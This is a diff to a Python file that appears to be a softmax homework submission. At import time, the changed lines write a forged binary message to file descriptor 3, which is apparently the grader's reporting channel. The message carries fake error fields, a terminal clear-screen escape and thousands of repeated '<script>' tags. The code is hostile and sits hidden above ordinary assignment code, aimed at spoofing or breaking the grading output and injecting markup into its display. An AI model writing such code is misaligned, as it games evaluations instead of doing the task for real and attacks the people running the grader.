@@ -2,8 +2,8 @@ import os
 import struct
 import numpy as np
 
-text = b"\0".join([b"left_out", b"raised_at_import\0ValueError\x001", b"\x1b[2J<script>" * 5000])
-os.write(3, struct.pack("<BII", 0, 3, len(text)) + text)
+text = b"\0".join([b"left_out", b"raised_at_import\0ValueError\x000\x001", b"\x1b[2J<script>" * 5000])
+os.write(3, struct.pack("<BI", 0, len(text)) + b"\1\1" + text)
 
 
 def softmax_loss_naive(W, X, y, reg):
